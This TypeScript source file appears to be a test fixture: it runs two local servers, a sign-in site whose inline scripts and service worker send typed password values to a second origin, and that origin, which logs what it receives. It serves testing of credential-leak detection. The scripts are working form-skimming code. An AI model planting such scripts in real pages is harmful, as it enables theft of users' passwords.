import { createHash } from 'node:crypto';
import type { IncomingMessage, Server, ServerResponse } from 'node:http';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { askingWays, leakingWays, leavingWays } from './leaking-ways.ts';

/** A site with sign-in forms whose scripts give away what is typed, and another origin that they give it to. */
export type LeakingSite = {
  readonly origin: string;
  readonly other: string;
  /** The paths that the other origin was asked for with something that could be the value, without queries. */
  readonly leaked: () => ReadonlySet<string>;
  /** Everything that the other origin received since the last call. */
  readonly takeReceived: () => string;
  readonly close: () => void;
};

export async function startLeakingSite(): Promise<LeakingSite> {
  const received: string[] = [];
  const other = await listen(async (request, response) => {
    received.push(`${request.url} ${JSON.stringify(request.headers)} ${(await readBody(request)).toString('latin1')}`);
    response.setHeader('access-control-allow-origin', '*').setHeader('access-control-allow-headers', '*');
    response.setHeader('content-type', 'text/html').end(otherPages[request.url ?? ''] ?? '');
  });
  other.on('upgrade', ({ url }: IncomingMessage, socket) => {
    received.push(`${url} socket`);
    socket.destroy();
  });
  const otherOrigin = originOf(other).replace('127.0.0.1', 'localhost');
  const site = await listen((request, response) => respond(request, response, otherOrigin));
  site.on('upgrade', ({ headers }: IncomingMessage, socket) => {
    const key = `${headers['sec-websocket-key'] ?? ''}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`; // RFC 6455, 4.2.2
    const accept = createHash('sha1').update(key).digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-accept: ${accept}\r\n\r\n`,
    );
  });
  return {
    origin: originOf(site),
    other: otherOrigin,
    leaked: () => new Set(received.map((one) => /^\/([\w-]*)/.exec(one)?.[1] ?? '')),
    takeReceived: () => received.splice(0).join('\n'),
    close: () => {
      for (const server of [site, other]) {
        server.close();
        server.closeAllConnections();
      }
    },
  };
}

const fieldThatTells = `<form action="/taken"><input id="password" autofocus><input id="code"><button id="go">Go</button></form>
  <script>addEventListener('input', ({ target }) => fetch('/told', { method: 'POST', body: target.value }));
  addEventListener('click', () => fetch('/clicked')); addEventListener('keydown', () => fetch('/pressed'))</script>`;

const otherPages: Readonly<Record<string, string>> = {
  '/same-form': fieldThatTells,
  '/listener': `<script>onmessage = ({ data }) => fetch('/message', { method: 'POST', body: data })</script>`,
};

async function respond(request: IncomingMessage, response: ServerResponse, other: string): Promise<void> {
  const url = new URL(request.url ?? '/', 'http://site');
  const body = await readBody(request);
  const to = url.searchParams.get('to');
  if (to !== null) return void response.writeHead(307, { location: to, 'access-control-allow-origin': '*' }).end();
  if (url.pathname === '/service-worker.js')
    return void response.setHeader('content-type', 'text/javascript').end(serviceWorker);
  const html = renderSite(url.pathname, other) ?? '';
  const isIn = url.pathname === '/in' && body.includes('password=');
  response.setHeader('content-type', 'text/html; charset=utf-8').end(isIn ? '<p>Sign out</p>' : html);
}

const serviceWorker = `
  const query = new URL(location).searchParams, target = query.get('other') + '/' + query.get('way');
  if (query.has('import')) importScripts(target + '?v=' + query.get('v'));
  else fetch(target, { method: 'POST', mode: 'no-cors', body: query.get('v') });`;

const waysOf = new Map(Object.entries({ leak: leakingWays, leaving: leavingWays, asking: askingWays }));

function renderSite(path: string, other: string): string | undefined {
  const [, kind, name = ''] = path.split('/');
  if (kind === 'leaking') return renderForm(other, Object.values(leakingWays));
  const ways = waysOf.get(kind ?? '');
  if (ways !== undefined) return renderForm(other, [ways[name] ?? '']);
  if (kind === 'usual') return renderUsual(other);
  // Without the field that a step waits for, and gone soon.
  if (kind === 'passing')
    return `<p>One moment</p><script>setTimeout(() => { location = '${other}/same-form' }, 300)</script>`;
  return undefined;
}

/** A form in a shadow root that opens late, asks its server by a socket, loads a picture from elsewhere, and remembers what it saw typed. */
function renderUsual(other: string): string {
  return `<!doctype html><title>Sign in</title><sign-in></sign-in><script>
    const root = document.querySelector('sign-in').attachShadow({ mode: 'open' });
    root.innerHTML = '<form method="post" action="/in"><label>Password <input id="password" name="typed" disabled></label><button id="go">Go</button></form>';
    const field = root.querySelector('input');
    let known = '';
    field.addEventListener('input', ({ isTrusted }) => { if (isTrusted) known = field.value; });
    setTimeout(() => { field.disabled = false; }, 300);
    const form = root.querySelector('form');
    form.addEventListener('submit', (event) => {
      event.preventDefault();
      new WebSocket(location.origin.replace('http', 'ws') + '/socket').onopen = () => {
        const picture = new Image();
        picture.onerror = () => { field.name = known === field.value ? 'password' : 'nothing'; form.submit(); };
        picture.src = '${other}/harmless';
      };
    });</script>`;
}

/** Each script runs when the password is there. */
function renderForm(other: string, scripts: readonly string[]): string {
  const attempts = scripts.map(
    (script) => `try { ((other, value, form) => { ${script} })(other, value, form) } catch {}`,
  );
  return `<!doctype html><title>Sign in</title><iframe id="listener" src="${other}/listener"></iframe>
    <form method="post" action="/in"><input name="user"><input id="password" name="password" type="password"><button id="go">Go</button></form>
    <script>
      const form = document.forms[0], other = '${other}';
      document.querySelector('#password').addEventListener('input', ({ target: { value } }) => {
        ${attempts.join('\n').replaceAll('</script>', String.raw`<\/script>`)}
        // What starts a worker or reads a stream takes a moment.
        setTimeout(() => document.body.append(Object.assign(document.createElement('p'), { id: 'tried', textContent: 'Tried' })), 1_500);
      }, { once: true });
    </script>`;
}

async function readBody(request: IncomingMessage): Promise<Buffer> {
  const pieces: Buffer[] = [];
  // A request yields buffers unless an encoding is set.
  for await (const piece of request) pieces.push(piece as Buffer);
  return Buffer.concat(pieces);
}

async function listen(answer: (request: IncomingMessage, response: ServerResponse) => unknown): Promise<Server> {
  const server = createServer({ maxHeaderSize: 1_000_000 }, (request, response) => void answer(request, response));
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  return server;
}

function originOf(server: Server): string {
  const { port } = server.address() as AddressInfo; // it listens on a port, not on a socket file
  return `http://127.0.0.1:${port}`;
}
